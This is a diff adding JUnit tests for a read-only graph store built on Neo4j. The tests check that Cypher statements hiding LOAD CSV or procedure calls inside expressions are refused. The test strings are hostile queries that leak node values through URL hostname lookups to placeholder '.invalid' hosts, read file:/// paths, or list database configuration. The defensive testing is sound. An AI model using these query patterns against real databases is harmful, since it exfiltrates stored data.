@@ -3,6 +3,7 @@
 package org.sayso.graph;
 
 import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
 
 import java.io.IOException;
 import java.net.InetAddress;
@@ -12,6 +13,9 @@ import java.util.List;
 import java.util.concurrent.atomic.AtomicInteger;
 import org.assertj.core.api.SoftAssertions;
 import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
+import org.sayso.problem.ProblemType;
 import org.sayso.problem.SaysoException;
 
 /** Part of {@link GraphStoreContract}: whatever a stranger writes, the graph stays as it is, and nobody outside hears of it. */
@@ -57,6 +61,31 @@ abstract class ReadOnlyContract {
             }
         }
         softly.assertAll();
+    }
+
+    /** The sentence is ours: Neo4j's own refusal comes only after it has looked up the host's name, which may hold what the graph knows. */
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "UNWIND ['a'] AS s RETURN [x IN [s] | COLLECT { LOAD CSV FROM 'http://' + x + '.invalid/' AS l RETURN l }]",
+                "MATCH (n:Entity {id: 'a'}) WHERE any(x IN [n.id] WHERE EXISTS { LOAD CSV FROM 'http://' + x + '.invalid/' AS l }) RETURN n",
+                "MATCH (n:Entity) WHERE n.id = head([x IN ['a'] | head(COLLECT { LOAD CSV FROM 'http://' + x + '.invalid/' AS l RETURN l })]) RETURN n",
+                "CYPHER 25 RETURN reduce(s = 0, x IN ['a'] | s + COUNT { LOAD CSV FROM 'file:///' + x AS l })",
+            })
+    void loadCsvInsideAnExpressionIsRefusedBeforeItsAddressIsLookedAt(String cypher) {
+        Rows.write(store(), "CREATE (:Entity {id: 'a'})");
+        assertThatThrownBy(() -> Rows.of(store(), cypher))
+                .isInstanceOfSatisfying(
+                        SaysoException.class, e -> assertThat(e.type()).isEqualTo(ProblemType.STATEMENT_NOT_ALLOWED))
+                .hasMessageStartingWith("LOAD CSV is not allowed");
+    }
+
+    @Test
+    void proceduresInsideAnExpressionAreRefusedToo() {
+        assertThat(outcome("RETURN [x IN [1] | COLLECT { CALL dbms.listConfig() YIELD value RETURN value + x }]"))
+                .isEqualTo(ProblemType.STATEMENT_NOT_ALLOWED.name());
+        assertThat(outcome("RETURN [x IN [1] | COLLECT { CALL db.labels() YIELD label RETURN label + x }]"))
+                .isEqualTo(HostileStatement.HARMLESS);
     }
 
     @Test
